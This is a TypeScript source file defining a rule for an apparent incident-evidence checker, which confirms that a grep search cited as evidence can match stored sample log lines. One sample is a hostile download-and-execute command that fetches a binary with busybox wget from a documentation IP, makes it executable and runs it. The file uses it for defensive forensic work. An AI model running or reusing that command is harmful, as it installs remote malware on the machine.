import { refTo } from '../../core/evidence.js';
import { traced } from '../changes.js';
import { defineRule } from '../rule.js';

/** Lines that a search for this kind of attack has to find (from the case's logs). */
const positives = [
  '[SUBPROC_DIAG_GLOBAL] {"cmd":"(cd /dev;busybox wget http://192.0.2.1/nuts/x86;chmod 777 x86;./x86)|sh"}',
  'at Object.eval [as then] (eval at <anonymous> (/app/node_modules/next/dist/compiled/next-server/app-page.runtime.prod.js:25:34007), <anonymous>:3:53)',
  'Error: connect ETIMEDOUT 192.0.2.1:80',
];

/** Rule 6: a search used as evidence must match a positive sample of its own. */
export const patternCanMatch = defineRule({
  id: 'PATTERN_CAN_MATCH',
  number: 6,
  reason: 'A pattern with a typing error finds nothing, for ever.',
  apply: (judgement, { bundle }) =>
    bundle.artifacts
      .filter((artifact) => artifact.sizeBytes === 0 && artifact.status === 'ok')
      .reduce((next, artifact) => {
        const words = searchedWords(artifact.source);
        if (words.length === 0 || words.some((word) => positives.some((line) => couldMatch(word, line.toLowerCase()))))
          return next;
        return traced(
          next,
          'PATTERN_CAN_MATCH',
          `${artifact.id} (${artifact.subject})`,
          'an empty search is no evidence',
          `"${words.join('|')}" matches none of the stored positive samples`,
          [refTo(artifact)],
        );
      }, judgement),
});

/** True when every literal part of the pattern stands in the line, in order: a pattern is never run, it may be hostile. */
function couldMatch(word: string, line: string): boolean {
  let at = 0;
  for (const part of word.split(/[.*+?^$()[\]{}]+/)) {
    const found = line.indexOf(part, at);
    if (found < 0) return false;
    at = found + part.length;
  }
  return true;
}

/** The alternatives of a grep that produced the artefact, as lower-case patterns; a pipeline within `sh -c` too. */
function searchedWords(source: { readonly command?: readonly string[] } | object | null): string[] {
  const given = source && 'command' in source ? (source.command ?? []) : [];
  const command = given.flatMap((word, index) =>
    given[index - 1] === '-c'
      ? [...word.slice(0, 4000).matchAll(/'([^']*)'|"([^"]*)"|[^\s'"]+/g)].map((m) => m[1] ?? m[2] ?? m[0])
      : [word],
  );
  const grep = command.findIndex((word) => /(^|\/)[ef]?grep$/.test(word));
  const pattern = grep < 0 ? undefined : command.slice(grep + 1).find((word) => !word.startsWith('-'));
  return (pattern ?? '')
    .split(/\\?\|/)
    .map((word) => word.replace(/\\([.[\](){}*+?^$])/g, '.').toLowerCase())
    .filter((word) => word !== '');
}
